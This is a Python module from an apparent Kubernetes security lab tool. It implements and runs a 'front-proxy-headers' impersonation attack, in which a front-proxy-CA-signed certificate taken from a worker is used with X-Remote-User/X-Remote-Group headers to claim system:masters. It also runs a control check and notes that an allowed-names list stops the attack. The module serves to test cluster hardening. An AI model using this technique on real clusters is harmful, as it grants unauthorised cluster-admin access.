"""Name any user in the headers of a request, with a certificate of the front proxy's authority.

An apiserver that takes requests from a front proxy knows it by its certificate, and takes the user
from the headers ``X-Remote-User`` and ``X-Remote-Group``. Without a list of allowed names, every
certificate of that authority is the front proxy's. The attacker needs root on a worker with an
aggregated API server, whose certificate the same authority signed, and names a member of
``system:masters``. A list of allowed names stops it.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.cluster import Credential, Environment
from labkit.errors import ProbeError
from labkit.model import Claim, Foothold, Model
from labkit.model.decision import AUTHENTICATED, MASTERS, Caller, member_of, unread_flags
from labkit.model.rights import by_request_headers, trusted_by
from labkit.techniques._lib.api.access import (
    ACCESS_REVIEW,
    ASK_EVERYTHING,
    CHANNEL,
    IDENTITY,
    api_url,
    apiserver_of,
    everything_allowed,
    everything_review,
    identity,
)
from labkit.techniques._lib.api.webhooks import REVIEW
from labkit.techniques._lib.machines.reach import legitimate, request, request_as
from labkit.techniques._lib.technique import (
    ADMIN,
    ROOT_ON_WORKER,
    Prediction,
    SentRequest,
    Technique,
    holds,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

USER = "kubernetes-admin"
NAMED = ("--header", f"X-Remote-User: {USER}", "--header", f"X-Remote-Group: {MASTERS}")
#: The front proxy's own certificate, on the apiserver's machine, and whom it names for the control.
PROXY, PERSON = "front-proxy-client", "labkit-person"


def _found(env: Environment) -> Credential | None:
    """Return the certificate of the front proxy's authority on the first worker, or None."""
    worker = next((node.name for node in env.nodes if node.role == "worker"), "")
    trusted = apiserver_of(env).setting("requestheader-client-ca-file").value
    signers = trusted_by(env, trusted) if trusted else frozenset[str]()
    mine = (it for it in env.credentials if it.node == worker and it.kind == "certificate")
    return next((it for it in mine if it.signed_by in signers), None)


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the apiserver takes the certificate for the front proxy's."""
    env = model.environment
    apiserver, held = apiserver_of(env), _found(env)
    flags = ("requestheader-client-ca-file", "requestheader-allowed-names")
    if any(unread_flags(apiserver, flag) for flag in flags):
        return Prediction(None, ("whom it takes for a front proxy could not be read",))
    if held is None:
        why = f"no worker has a certificate of a front proxy's authority: {apiserver.source}"
        return Prediction(False, (why,))
    claim = by_request_headers(env, apiserver, held)
    return holds(claim or _refusal(env), "allow-all")


def _refusal(env: Environment) -> Claim:
    names = apiserver_of(env).setting("requestheader-allowed-names")
    return Claim("enforced", f"only {names.value or 'no name'} may name users", names.source)


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the question what the named user may do."""
    env, believed = model.environment, predict(model, foothold)
    caller = Caller("", frozenset(), _refusal(env))
    if believed.succeeds:
        caller = member_of(MASTERS, AUTHENTICATED, user=USER)
    return [] if _found(env) is None else [SentRequest(caller, ASK_EVERYTHING)]


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Name a member of system:masters, and ask what they may do.

    Raises
    ------
    ProbeError
        The answer shows neither a success nor a refusal.
    """
    held = _found(lab.environment)
    if held is None:
        raise ProbeError(f"no worker of {lab.mode} has a certificate of a front proxy's authority")
    options = ["--cert", held.certificate, "--key", held.key, *NAMED]
    found = request(
        lab,
        api_url(lab, ACCESS_REVIEW),
        foothold=foothold,
        body=everything_review(),
        options=options,
    )
    asked = f"with the certificate of {held.common_name}, named {USER} in {MASTERS}"
    if not found.refusal:
        proof = everything_allowed(found)
        reason = f"HTTP {found.status}"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, (asked, proof))
    if found.refusal != "HTTP 401":
        raise ProbeError(f"{TECHNIQUE.name}: {found.refusal} is no known refusal")
    with legitimate():
        control = _proxy_is_believed(lab)
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, found.refusal, (asked,), control)


def _proxy_is_believed(lab: Lab) -> str:
    """Show that the apiserver takes a user from the headers of its own front proxy.

    Raises
    ------
    ProbeError
        It does not.
    """
    env = lab.environment
    own = env.credential(PROXY, apiserver_of(env).node)
    if own is None:
        raise ProbeError(f"{lab.mode} has no certificate of its front proxy")
    named, body = ("--header", f"X-Remote-User: {PERSON}"), json.dumps(REVIEW).encode()
    said = request_as(lab, own, own.node, api_url(lab, IDENTITY), *named, body=body)
    if said.refusal or identity(said)[0] != PERSON:
        raise ProbeError(f"the front proxy is not believed: {said.refusal or identity(said)[0]}")
    return f"the front proxy itself names {PERSON}, and the apiserver believes it"


def _settings(env: Environment) -> list[Setting]:
    """Return whom the apiserver takes for a front proxy."""
    names = apiserver_of(env).setting("requestheader-allowed-names")
    return [("names of front proxies", names.value or "every name", str(names.source))]


TECHNIQUE = Technique(
    name="front-proxy-headers",
    title="Name any user in the headers of a request",
    footholds=(ROOT_ON_WORKER,),
    grants=(ADMIN,),
    about=CHANNEL,
    properties=("client_authentication",),
    attack=("T1550", "T1552.004"),
    stride=("spoofing", "elevation of privilege"),
    cwe=("CWE-290", "CWE-295"),
    sources=(
        "https://kubernetes.io/docs/reference/access-authn-authz/authentication/"
        "#authenticating-proxy",
        "https://kubernetes.io/docs/tasks/extend-kubernetes/configure-aggregation-layer/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    settings=_settings,
    machines=("review",),
    modes=("hook-insecure", "hook-hardened"),
)
